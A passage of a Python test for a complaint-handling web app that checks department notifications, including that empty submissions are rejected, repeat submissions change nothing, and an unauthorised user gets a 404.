        logistics = a_department(session, "logistics", "Logistics", "物流").id
    clerk = browser_of(desk["clerk"])
    assert "Logistics" in clerk.get(f"/complaints/{number}").text.partition('id="f-departments"')[2]
    nobody = clerk.post(f"/complaints/{number}/notified")
    assert (nobody.status_code, "Choose a department to notify." in nobody.text) == (422, True)
    for _ in range(2):  # the same form sent again changes nothing
        assert clerk.post(f"/complaints/{number}/notified", data={"departments": logistics}).status_code == 303
    with make() as session:
        told = session.scalars(select(Change).where(Change.act == "notified").order_by(Change.id)).all()
    assert [each.values["departments"] for each in told] == [["qa", "machining"], ["logistics"]]
    assert browser_of(desk["mr"]).post(f"/complaints/{number}/notified").status_code == 404
